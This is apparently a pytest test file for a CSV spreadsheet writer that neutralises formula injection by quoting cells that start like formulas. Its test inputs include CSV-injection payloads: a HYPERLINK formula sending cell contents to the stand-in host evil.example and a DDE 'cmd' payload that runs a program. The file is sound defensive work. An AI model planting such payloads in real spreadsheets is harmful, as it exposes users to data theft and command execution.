"""CSV for spreadsheets: a cell that would run as a formula is written as text (OWASP, "CSV
Injection"); numbers, signed ones too, stay numbers."""

import csv
import io

import pytest

from patronflow.spreadsheets import SpreadsheetWriter


def written(*rows: list[object]) -> str:
    output = io.StringIO()
    SpreadsheetWriter(output, lineterminator="\n").writerows(rows)
    return output.getvalue()


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"Klik")',
        "+32 9 123 45 67",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_cell_that_starts_like_a_formula_is_quoted_text_with_a_single_quote(value):
    text = written(["M1", value])

    assert text.startswith("M1,\"'")
    assert next(csv.reader(io.StringIO(text))) == ["M1", f"'{value}"]


def test_numbers_stay_numbers_and_other_cells_are_written_as_csv_writes_them():
    row = ["gent", -0.12, "-0.12", "+3", "1e-05", 7, None, "", "a,b", 'De "beste"']

    assert written(row) == 'gent,-0.12,-0.12,+3,1e-05,7,,,"a,b","De ""beste"""\n'
